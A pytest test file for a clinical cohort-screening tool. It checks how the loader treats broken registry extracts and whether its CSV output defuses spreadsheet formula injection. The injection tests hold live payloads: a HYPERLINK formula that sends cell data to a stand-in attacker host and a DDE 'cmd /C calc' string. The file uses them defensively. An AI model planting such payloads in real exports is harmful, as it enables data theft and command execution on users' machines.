"""The bad-input corpus: one small extract per problem, and the loader's answer to each, through the CLI.

Every case starts from the small valid extract of `tests/loading/test_bad_input.py`
(`VALID`: patient 007 with a candidate event on study S2, patient P2 without
one) and breaks one thing, the way hand-assembled registry extracts break.
The answer is one of two, as README "Input problems" lists them:

- fatal: `oligo-cohort screen` exits with code 2, stderr names every problem
  (table, column, row or record id, value), shows no traceback, and no output
  folder (nor a temporary one) is left behind;
- finding: the screen completes, `findings.csv` names the problem, and the
  criteria that depended on the unusable value answer `unknown`.
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pytest

from oligo_cohort.cli import main
from oligo_cohort.dictionary import tables
from tests.loading.test_bad_input import VALID, write_extract

HEADERS = {name: text.split("\n", 1)[0] for name, text in VALID.items()}


@dataclass(frozen=True)
class Expected:
    """One line the report must hold: where (table, column, row), which value, and a part of the message."""

    table: str
    column: str | None
    row: int | None
    value: str | None
    message: str

    def matches(self, line: str) -> bool:
        where = self.table + (f".{self.column}" if self.column else "") + (f" row {self.row}" if self.row else "")
        value = "" if self.value is None else f"value {self.value!r}"
        if self.row:
            where += " ("  # a row's problem also names its record id: "imaging.study_date row 2 (study_id=S2)"
        return line.strip().startswith(where) and value in line and self.message in line


@dataclass(frozen=True)
class Case:
    """An extract broken in one way: text replacements in VALID tables, or whole files (as bytes)."""

    id: str
    edits: tuple[tuple[str, str, str], ...] = ()  # (table, old, new)
    files: dict[str, bytes | None] = field(default_factory=dict)  # file name -> content (None: delete)

    def write(self, folder: Path) -> Path:
        tables = dict(VALID)
        for table, old, new in self.edits:
            assert old in tables[table], f"test set-up: {old!r} not in {table}"
            tables[table] = tables[table].replace(old, new, 1)
        write_extract(folder, tables)
        for name, content in self.files.items():
            if content is None:
                (folder / name).unlink()
            else:
                (folder / name).write_bytes(content)
        return folder


def edit(case_id: str, table: str, old: str, new: str) -> Case:
    return Case(case_id, ((table, old, new),))


def screen_cli(tmp_path: Path, case: Case, capsys, *options: str) -> tuple[int, Path, str]:
    extract = case.write(tmp_path / "extract")
    out = tmp_path / "out"
    code = main(["screen", str(extract), "--out", str(out), "--quiet", *options])
    return code, out, capsys.readouterr().err


S2_LESION = "S2,007,L1,distant,liver,19,"

FATAL_CASES: list[tuple[Case, list[Expected]]] = [
    # Tables and files
    (
        Case("missing required table", files={"lesions.csv": None}),
        [Expected("lesions", None, None, None, "required table is missing")],
    ),
    (
        edit("missing required column", "imaging", HEADERS["imaging"], "study_id,patient_id,study_date,kind"),
        [Expected("imaging", "modality", None, None, "required column is missing")],
    ),
    (
        Case("empty file", files={"tumours.csv": b""}),
        [Expected("tumours", None, None, "tumours.csv", "the file is empty")],
    ),
    (
        Case("file of blank lines", files={"tumours.csv": b"\n\n"}),
        [Expected("tumours", None, None, "tumours.csv", "the file is empty")],
    ),
    (
        Case("header-only patients", files={"patients.csv": (HEADERS["patients"] + "\n").encode()}),
        [Expected("patients", None, None, None, "no patients: nothing to screen")],
    ),
    (
        Case("UTF-16 file", files={"imaging.csv": VALID["imaging"].encode("utf-16")}),
        [Expected("imaging", None, None, "imaging.csv", "UTF-16")],
    ),
    (
        Case("ragged CSV row", files={"imaging.csv": (VALID["imaging"] + "S3,007,2021-04-01,CT,extra\n").encode()}),
        [Expected("imaging", None, None, "imaging.csv", "cannot be read as CSV")],
    ),
    (
        Case(
            "column twice in the header",
            files={"imaging.csv": VALID["imaging"].replace("modality\n", "modality,Modality\n").encode()},
        ),
        [Expected("imaging", None, None, "imaging.csv", "column 'Modality' appears more than once")],
    ),
    (
        Case("table given twice", files={"imaging.parquet": b"PAR1"}),
        [Expected("imaging", None, None, "imaging.csv, imaging.parquet", "given more than once")],
    ),
    # Dates
    (
        edit("impossible date", "imaging", "S2,007,2021-03-01", "S2,007,2023-02-30"),
        [Expected("imaging", "study_date", 2, "2023-02-30", "not a calendar date")],
    ),
    (
        edit("day-first date", "imaging", "S2,007,2021-03-01", "S2,007,31/12/2023"),
        [Expected("imaging", "study_date", 2, "31/12/2023", "day-first or month-first date")],
    ),
    (
        edit("Excel serial date", "tumours", "T1,007,2020-01-01", "T1,007,43831"),
        [Expected("tumours", "diagnosis_date", 1, "43831", "Excel serial number")],
    ),
    (
        edit("date before birth", "systemic_therapy", "007,letrozole,2020-01-10", "007,letrozole,1950-01-10"),
        [Expected("systemic_therapy", "start_date", 1, "1950-01-10", "before the patient's birth (1960-05-01)")],
    ),
    (
        edit("required value missing", "imaging", "S2,007,2021-03-01", "S2,007,"),
        [Expected("imaging", "study_date", 2, None, "required value is missing")],
    ),
    # Ids and links between tables
    (
        edit("duplicate patient_id", "patients", "P2,UMCU", "007,UMCU"),
        [
            Expected("patients", "patient_id", 1, "007", "duplicate patient_id"),
            Expected("patients", "patient_id", 2, "007", "duplicate patient_id"),
        ],
    ),
    (
        edit("duplicate tumour_id", "tumours", "T2,P2", "T1,P2"),
        [Expected("tumours", "tumour_id", 2, "T1", "duplicate tumour_id")],
    ),
    (
        edit("duplicate study_id", "imaging", "S2,007,2021-03-01", "S1,007,2021-03-01"),
        [Expected("imaging", "study_id", 2, "S1", "duplicate study_id")],
    ),
    (
        edit("duplicate study + lesion", "lesions", "S2,007,L1", "S1,007,L1"),
        [Expected("lesions", "study_id", 2, "S1 / L1", "duplicate study_id + lesion_id")],
    ),
    (
        edit("orphan row", "systemic_therapy", "P2,tamoxifen", "P9,tamoxifen"),
        [Expected("systemic_therapy", "patient_id", 3, "P9", "patient is not in the patients table")],
    ),
    (
        edit("lesion of an unknown study", "lesions", "S2,007,L1", "S9,007,L1"),
        [Expected("lesions", "study_id", 2, "S9", "study is not in the imaging table")],
    ),
    (
        Case(
            "lesion whose study belongs to another patient",
            (("lesions", S2_LESION, S2_LESION.replace(",007,", ",P2,")),),
        ),
        [Expected("lesions", "patient_id", 2, "P2", "the study belongs to patient 007")],
    ),
    # Values
    (
        edit("end before start", "systemic_therapy", "2019-12-15,2021-01-15", "2019-12-15,2019-01-15"),
        [Expected("systemic_therapy", "end_date", 3, "2019-01-15", "end date is before the start date 2019-12-15")],
    ),
    (
        Case(
            "observation ending before it starts",
            files={
                "observations.csv": b"patient_id,code,start_date,end_date,value\n007,pregnant,2021-01-01,2020-01-01,no\n"
            },
        ),
        [Expected("observations", "end_date", 1, "2020-01-01", "end date is before the start date 2021-01-01")],
    ),
    (
        edit("negative size", "lesions", S2_LESION, "S2,007,L1,distant,liver,-19,"),
        [Expected("lesions", "size_mm", 2, "-19", "impossible value: below 0")],
    ),
    (
        edit("negative SUV", "lesions", S2_LESION, "S2,007,L1,distant,liver,19,-4.2"),
        [Expected("lesions", "suv_max", 2, "-4.2", "impossible value: below 0")],
    ),
    (
        edit("size with a thousands separator", "lesions", S2_LESION, 'S2,007,L1,distant,liver,"4,000",'),
        [Expected("lesions", "size_mm", 2, "4,000", "not a number")],
    ),
    (
        Case(
            "WHO score above 5",
            files={"performance_status.csv": b"patient_id,assessment_date,scale,score\n007,2021-02-20,WHO,7\n"},
        ),
        [Expected("performance_status", "score", 1, "7", "WHO scores run from 0 to 5")],
    ),
    (
        Case(
            "score not a whole number",
            files={"performance_status.csv": b"patient_id,assessment_date,scale,score\n007,2021-02-20,WHO,1.5\n"},
        ),
        [Expected("performance_status", "score", 1, "1.5", "not a whole number")],
    ),
    (
        Case(
            "KPS above 100",
            files={"performance_status.csv": b"patient_id,assessment_date,scale,score\n007,2021-02-20,KPS,150\n"},
        ),
        [Expected("performance_status", "score", 1, "150", "impossible value: above 100")],
    ),
    (
        edit("non-boolean flag", "tumours", "palliative,false,false", "palliative,maybe,false"),
        [Expected("tumours", "chemotherapy", 1, "maybe", "not a boolean")],
    ),
    (
        Case(
            "empty required boolean",
            files={"observations.csv": b"patient_id,code,start_date,end_date,value\n007,lat_amenable,2021-02-01,,\n"},
        ),
        [Expected("observations", "value", 1, None, "required value is missing")],
    ),
]
# An unknown code in every coded column of the dictionary: one extract, every one of them named.
T1 = "T1,007,2020-01-01,C50.4,8500,3,histology_primary,M1,2020-01-01,palliative,false,false,"
FATAL_CASES.append(
    (
        Case(
            "unknown code in every coded column",
            (
                ("patients", "007,AVL,1960-05-01,F", "007,AVL,1960-05-01,female"),
                (
                    "tumours",
                    T1,
                    "T1,007,2020-01-01,breast,ductal,malignant,biopsy,M2,2020-01-01,maintenance,false,false,",
                ),
                ("systemic_therapy", "2020-01-10,,metastatic\n007,palb", "2020-01-10,,first-line\n007,palb"),
                ("imaging", "S2,007,2021-03-01,CT", "S2,007,2021-03-01,PET"),
                ("lesions", S2_LESION, "S2,007,L1,metastasis,hepar,19,"),
            ),
            files={
                "response_assessments.csv": b"patient_id,assessment_date,response\n007,2020-07-01,stable\n",
                "performance_status.csv": b"patient_id,assessment_date,scale,score\n007,2021-02-20,ZUBROD,1\n",
                "observations.csv": b"patient_id,code,start_date,end_date,value\n007,smoker,2021-01-01,,true\n",
            },
        ),
        [
            Expected("patients", "sex", 1, "female", "not an allowed code (F, M, U)"),
            Expected("tumours", "topography", 1, "breast", "does not match the pattern"),
            Expected("tumours", "morphology", 1, "ductal", "does not match the pattern"),
            Expected("tumours", "behaviour", 1, "malignant", "not an allowed code"),
            Expected("tumours", "basis_of_diagnosis", 1, "biopsy", "not an allowed code"),
            Expected("tumours", "tnm_m", 1, "M2", "not an allowed code (M0, M1, MX)"),
            Expected("tumours", "treatment_intent", 1, "maintenance", "not an allowed code"),
            Expected("systemic_therapy", "setting", 1, "first-line", "not an allowed code"),
            Expected("imaging", "modality", 2, "PET", "not an allowed code"),
            Expected("lesions", "location", 2, "metastasis", "not an allowed code"),
            Expected("lesions", "organ", 2, "hepar", "not an allowed code"),
            Expected("response_assessments", "response", 1, "stable", "not an allowed code"),
            Expected("performance_status", "scale", 1, "ZUBROD", "not an allowed code"),
            Expected("observations", "code", 1, "smoker", "not an allowed code"),
        ],
    )
)
CODED_COLUMNS = {(t.name, c.name) for t in tables().values() for c in t.columns if c.type == "code"}


def test_the_unknown_code_case_covers_every_coded_column():
    covered = {(e.table, e.column) for e in FATAL_CASES[-1][1]}
    assert covered == CODED_COLUMNS


@pytest.mark.parametrize(("case", "expected"), FATAL_CASES, ids=[c.id for c, _ in FATAL_CASES])
def test_fatal_case_exits_2_naming_every_problem_and_writes_nothing(tmp_path, capsys, case, expected):
    code, out, err = screen_cli(tmp_path, case, capsys)
    lines = err.splitlines()
    assert code == 2, err
    assert "Traceback" not in err
    assert lines[0].startswith("oligo-cohort: the extract cannot be screened")
    for one in expected:
        assert any(one.matches(line) for line in lines), f"{one} not in:\n{err}"
    assert not out.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["extract"], "no output or temporary folder is left"


# --- Findings: the screen goes on ------------------------------------------------------------------------------


def read_csv(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


@pytest.fixture(scope="module")
def baseline(tmp_path_factory) -> pd.DataFrame:
    """patients.csv of the valid extract."""
    folder = tmp_path_factory.mktemp("baseline")
    assert main(["screen", str(write_extract(folder / "extract", VALID)), "--out", str(folder / "out"), "--quiet"]) == 0
    return read_csv(folder / "out" / "patients.csv")


def screen_ok(tmp_path: Path, case: Case, capsys, *options: str) -> tuple[Path, pd.DataFrame, pd.DataFrame]:
    code, out, err = screen_cli(tmp_path, case, capsys, *options)
    assert code == 0, err
    assert "Traceback" not in err
    return out, read_csv(out / "patients.csv").set_index("patient_id"), read_csv(out / "findings.csv")


def has_finding(findings: pd.DataFrame, table: str, column: str, message: str, value: str | None = None) -> bool:
    rows = findings[(findings["table"] == table) & (findings["column"] == column)]
    rows = rows[rows["message"].str.contains(message, regex=False)]
    if value is not None:
        rows = rows[rows["value"] == value]
    return rows["severity"].isin(("warning", "information")).any()  # a finding: the screen went on


ENCODING_CASES = [
    Case("UTF-8 with BOM", files={"imaging.csv": b"\xef\xbb\xbf" + VALID["imaging"].encode()}),
    Case("semicolon delimiter", files={"lesions.csv": VALID["lesions"].replace(",", ";").encode()}),
    Case("tab delimiter", files={"tumours.csv": VALID["tumours"].replace(",", "\t").encode()}),
    Case("pipe delimiter", files={"systemic_therapy.csv": VALID["systemic_therapy"].replace(",", "|").encode()}),
    Case("Latin-1", files={"patients.csv": VALID["patients"].replace("AVL", "Sint-Jos\xe9").encode("latin-1")}),
]


@pytest.mark.parametrize("case", ENCODING_CASES, ids=[c.id for c in ENCODING_CASES])
def test_encodings_and_delimiters_read_as_the_clean_extract(tmp_path, capsys, baseline, case):
    """A BOM is dropped silently; a `;`/tab delimiter or a Latin-1 file is read, with a finding saying so."""
    _, patients, findings = screen_ok(tmp_path, case, capsys)
    if case.id == "Latin-1":
        assert patients.loc["007", "site_id"] == "Sint-Jos\xe9"
        patients.loc["007", "site_id"] = "AVL"
    pd.testing.assert_frame_equal(patients.reset_index(), baseline)
    messages = " | ".join(findings["message"])
    expected = {
        "UTF-8 with BOM": None,
        "semicolon delimiter": "read with ';' as the delimiter",
        "tab delimiter": "read with '\\t' as the delimiter",
        "pipe delimiter": "read with '|' as the delimiter",
        "Latin-1": "not UTF-8 (first on line 2): read as Windows-1252",
    }[case.id]
    if expected is None:
        assert findings.empty, messages
    else:
        assert expected in messages


def test_extra_column_and_extra_file_are_ignored_with_a_finding(tmp_path, capsys, baseline):
    case = Case(
        "extra column",
        (
            ("imaging", "modality\n", "modality,radiologist\n"),
            ("imaging", ",CT\n", ",CT,=cmd|' /C calc'!A0\n"),
            ("imaging", "2021-03-01,CT\n", "2021-03-01,CT,\n"),  # every record has the header's fields
        ),
        files={"radiology_notes.csv": b"patient_id,note\n007,secret\n"},
    )
    out, patients, findings = screen_ok(tmp_path, case, capsys)
    assert has_finding(findings, "imaging", "radiologist", "not in the data dictionary; ignored")
    assert has_finding(findings, "radiology_notes", "", "not a table of the model; ignored", "radiology_notes.csv")
    assert not [
        p for p in out.iterdir() if "calc" in p.read_text(errors="replace") or "secret" in p.read_text(errors="replace")
    ]
    pd.testing.assert_frame_equal(patients.reset_index(), baseline)


def test_absent_optional_column_reads_as_missing_and_its_criterion_is_unknown(tmp_path, capsys, baseline):
    case = Case(
        "no birth_date column",
        (
            ("patients", "site_id,birth_date,sex", "site_id,sex"),
            ("patients", "AVL,1960-05-01,", "AVL,"),
            ("patients", "UMCU,1971-03-15,", "UMCU,"),
        ),
    )
    _, patients, findings = screen_ok(tmp_path, case, capsys)
    assert has_finding(findings, "patients", "birth_date", "optional column is absent: read as missing")
    assert baseline.set_index("patient_id").loc["007", "inc_age_18"] == "pass"
    assert patients.loc["007", "inc_age_18"] == "unknown"


def test_header_only_table_has_no_records_with_a_finding(tmp_path, capsys):
    case = Case("header-only lesions", files={"lesions.csv": (HEADERS["lesions"] + "\n").encode()})
    _, patients, findings = screen_ok(tmp_path, case, capsys)
    assert has_finding(findings, "lesions", "", "the table has no records")
    assert patients.loc["007", "event_id"] == "", "no lesion rows: no candidate event"


def test_records_after_the_cut_off_are_ignored_with_findings(tmp_path, capsys):
    case = Case("dates after the cut-off")
    _, patients, findings = screen_ok(tmp_path, case, capsys, "--as-of", "2021-01-01")
    dropped = findings[(findings["table"] == "imaging") & (findings["record_id"] == "study_id=S2")]
    assert dropped["message"].str.contains("dated after the cut-off 2021-01-01: ignored with its lesions").all()
    assert has_finding(findings, "systemic_therapy", "end_date", "read as missing", "2021-01-15")
    assert has_finding(findings, "tumours", "metastasis_date", "read as missing", "2021-02-01")
    assert patients.loc["007", "event_id"] == "", "the only event was on S2, after the cut-off"


def test_implausible_size_reads_as_missing_and_progression_becomes_unknown(tmp_path, capsys, baseline):
    case = edit("absurd size", "lesions", S2_LESION, "S2,007,L1,distant,liver,4000,")
    _, patients, findings = screen_ok(tmp_path, case, capsys)
    assert has_finding(findings, "lesions", "size_mm", "implausibly large (above 300): read as missing", "4000")
    assert baseline.set_index("patient_id").loc["007", "inc_oligoprogression"] == "pass"
    assert patients.loc["007", "inc_oligoprogression"] == "unknown"


def test_implausible_suv_reads_as_missing_and_progression_becomes_unknown(tmp_path, capsys):
    case = Case(
        "absurd SUV",
        (
            ("imaging", "2020-01-05,CT", "2020-01-05,FDG-PET-CT"),
            ("imaging", "2021-03-01,CT", "2021-03-01,FDG-PET-CT"),
            ("lesions", "liver,10,", "liver,10,5.0"),
            ("lesions", S2_LESION, "S2,007,L1,distant,liver,10,5000"),
        ),
    )
    _, patients, findings = screen_ok(tmp_path, case, capsys)
    assert has_finding(findings, "lesions", "suv_max", "implausibly large (above 100): read as missing", "5000")
    assert patients.loc["007", "inc_oligoprogression"] == "unknown"


def test_unknown_drugs_are_findings_and_the_therapy_class_is_unknown(tmp_path, capsys, baseline):
    case = Case(
        "unknown drugs",
        (("systemic_therapy", "007,letrozole", "007,XL-123"), ("systemic_therapy", "007,palbociclib", "007,XL-456")),
    )
    _, patients, findings = screen_ok(tmp_path, case, capsys)
    assert has_finding(findings, "systemic_therapy", "drug", "not in the vocabulary", "XL-123")
    assert has_finding(findings, "systemic_therapy", "drug", "not in the vocabulary", "XL-456")
    assert baseline.set_index("patient_id").loc["007", "inc_therapy_class"] == "pass"
    assert patients.loc["007", "inc_therapy_class"] == "unknown"


def test_unknown_setting_without_metastasis_date_is_a_finding_not_counted_as_metastatic(tmp_path, capsys):
    case = Case(
        "uninferable setting",
        (
            ("tumours", "M1,2020-01-01,palliative", "MX,,palliative"),
            ("systemic_therapy", "2020-01-10,,metastatic\n007,palb", "2020-01-10,,unknown\n007,palb"),
            ("systemic_therapy", "007,palbociclib,2020-01-10,,metastatic", "007,palbociclib,2020-01-10,,"),
        ),
    )
    _, patients, findings = screen_ok(tmp_path, case, capsys)
    assert has_finding(findings, "systemic_therapy", "setting", "not counted as metastatic treatment", "unknown")
    assert has_finding(findings, "systemic_therapy", "setting", "not counted as metastatic treatment", "")
    assert patients.loc["007", "inc_metastatic"] == "unknown"
    assert patients.loc["007", "event_id"] == "", "no metastatic line: no candidate event"


# --- Values that must survive as written -------------------------------------------------------------------------


def test_numeric_looking_ids_keep_their_leading_zeros(tmp_path, capsys):
    tables = {t: text.replace("007", "00123") for t, text in VALID.items()}
    case = Case("leading zeros", files={f"{t}.csv": text.encode() for t, text in tables.items()})
    out, patients, _ = screen_ok(tmp_path, case, capsys, "--parquet")
    assert "00123" in patients.index
    for name in ("patients", "events", "reasons"):
        text = (out / f"{name}.csv").read_text(encoding="utf-8")
        assert "\n00123," in text and "\n123," not in text, name
        assert "00123" in set(pd.read_parquet(out / f"{name}.parquet")["patient_id"])


@pytest.mark.parametrize(
    ("spelling", "typed"),
    [
        ("true", True),
        ("false", False),
        ("TRUE", True),
        ("False", False),
        ("1", True),
        ("0", False),
        ("yes", True),
        ("no", False),
        ("Y", True),
        ("n", False),
        ("t", True),
        ("F", False),
        ("", None),
    ],
)
def test_boolean_spellings(tmp_path, spelling, typed):
    from oligo_cohort.load import load_extract

    tables = dict(VALID)
    tables["tumours"] = tables["tumours"].replace("palliative,false,false", f"palliative,{spelling},false")
    if spelling:
        tables["observations"] = f"patient_id,code,start_date,end_date,value\n007,lat_amenable,2021-02-01,,{spelling}\n"
    loaded = load_extract(write_extract(tmp_path / "extract", tables))
    assert loaded.con.execute("SELECT chemotherapy FROM tumours WHERE tumour_id = 'T1'").fetchall() == [(typed,)]
    if spelling:
        assert loaded.con.execute("SELECT value FROM observations").fetchall() == [(typed,)]
    assert not [f for f in loaded.findings if f.column in ("chemotherapy", "value")]


def test_very_long_strings_are_kept_whole(tmp_path, capsys):
    site = "S" * 50_000
    lesion = "L" + "x" * 20_000
    case = Case(
        "long strings",
        (
            ("patients", "007,AVL", f"007,{site}"),
            ("lesions", "S1,007,L1,", f"S1,007,{lesion},"),
            ("lesions", "S2,007,L1,", f"S2,007,{lesion},"),
        ),
    )
    _, patients, _ = screen_ok(tmp_path, case, capsys)
    assert patients.loc["007", "site_id"] == site
    assert patients.loc["007", "inc_oligoprogression"] == "pass", "a long lesion id still links the two studies"


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    'say "hi", then\nleave',
]


def test_formula_and_quote_injection_is_written_safely(tmp_path, capsys):
    """Text that a spreadsheet would run gets a leading apostrophe; quotes and newlines survive CSV quoting."""
    rows = "".join(f'X{i},"{text.replace(chr(34), chr(34) * 2)}",1970-01-01,F,\n' for i, text in enumerate(INJECTIONS))
    drug = INJECTIONS[0].replace('"', '""')
    case = Case(
        "injection",
        (
            ("patients", "P2,UMCU,1971-03-15,F,\n", f"P2,UMCU,1971-03-15,F,\n{rows}"),
            ("systemic_therapy", "007,letrozole", f'007,"{drug}"'),
        ),
    )
    out, patients, findings = screen_ok(tmp_path, case, capsys)
    for i, text in enumerate(INJECTIONS):
        written = patients.loc[f"X{i}", "site_id"]
        assert written == ("'" + text if text[0] in "=+-@" else text), written
    unknown = findings[findings["column"] == "drug"]
    assert unknown["value"].tolist() == ["'" + INJECTIONS[0]]
    # Every CSV written parses back to whole records: no cell starts a formula.
    for name in ("patients", "events", "reasons", "findings"):
        with (out / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
            records = list(csv.reader(handle))
        assert len({len(r) for r in records}) == 1, name
        assert not [cell for r in records[1:] for cell in r if cell[:1] in ("=", "+", "@")], name


def test_dataframes_with_a_column_named_twice_are_a_report_not_a_crash():
    from oligo_cohort.errors import InputError
    from oligo_cohort.load import load_extract

    frames = {name: pd.read_csv(io.StringIO(text), dtype=str) for name, text in VALID.items()}
    frames["imaging"]["Modality"] = "CT"
    with pytest.raises(InputError) as caught:
        load_extract(frames)
    assert [(p.table, p.message) for p in caught.value.problems] == [
        ("imaging", "column 'Modality' appears more than once in the header")
    ]
